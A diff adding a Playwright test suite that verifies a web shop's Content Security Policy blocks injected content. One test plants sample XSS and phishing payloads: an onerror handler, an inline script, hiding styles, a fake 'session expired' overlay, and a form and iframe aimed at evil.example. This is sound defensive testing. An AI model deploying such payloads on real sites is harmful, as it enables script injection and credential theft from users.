@@ -1,0 +1,69 @@
+import { expect, type Page, test } from '../support/browser.js';
+import { toast } from '../support/person.js';
+
+/** A page of its own, which may complain, and what its content policy kept it from. */
+const watched = async (page: Page) => {
+  const refused: string[] = [];
+  await page.exposeFunction('refuse', (what: string) => refused.push(what));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
+      const { refuse } = window as unknown as { refuse: (what: string) => void }; // exposed above
+      refuse(`${effectiveDirective} ${blockedURI} ${sourceFile}`);
+    });
+  });
+  return refused;
+};
+
+test('nothing that slips into a page can run there, style it or send it elsewhere', async ({ browser }) => {
+  const page = await browser.newPage();
+  const refused = await watched(page);
+  await page.goto('/');
+  await page.getByRole('banner').waitFor();
+  await page.evaluate(() => {
+    const slip = document.createElement('div');
+    slip.innerHTML = `
+      <img src="data:," onerror="window.owned = 'handler'">
+      <style>#root { display: none }</style>
+      <p style="position: fixed; inset: 0">Your session has expired</p>
+      <form action="https://evil.example"><button>Log in</button></form>
+      <iframe src="https://evil.example"></iframe>`;
+    document.body.append(slip);
+    const script = document.createElement('script');
+    script.textContent = "window.owned = 'script'";
+    document.body.append(script);
+    slip.querySelector('form')?.submit();
+  });
+  await expect
+    .poll(() => new Set(refused.map((line) => line.split(' ', 1)[0])))
+    .toEqual(
+      new Set([
+        'script-src-attr',
+        'script-src-elem',
+        'style-src-elem',
+        'style-src-attr',
+        'form-action',
+        'frame-src',
+      ]),
+    );
+
+  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
+  const shown = (root: Element) => getComputedStyle(root).display;
+  expect(await page.$eval('#root', shown)).not.toBe('none');
+  await page.close();
+});
+
+test('what the shop itself needs is let through, and so is the page that describes the API', async ({
+  page,
+}) => {
+  const refused = await watched(page);
+  await page.goto('/login');
+  await page.getByRole('textbox', { name: 'Email' }).fill('nobody@example.test');
+  await page.getByLabel('Password', { exact: true }).fill('not the password');
+  await page.getByRole('button', { name: 'Login' }).click();
+  await expect(toast(page, 'Email or password is wrong')).toBeVisible();
+  await page.goto('/api/docs');
+  await expect(page.getByRole('heading', { name: /Tokri/ })).toBeVisible();
+
+  // zod asks whether it may compile its checks, and goes on without
+  expect(refused.filter((line) => !/^script-src eval \S+useContractForm/.test(line))).toEqual([]);
+});
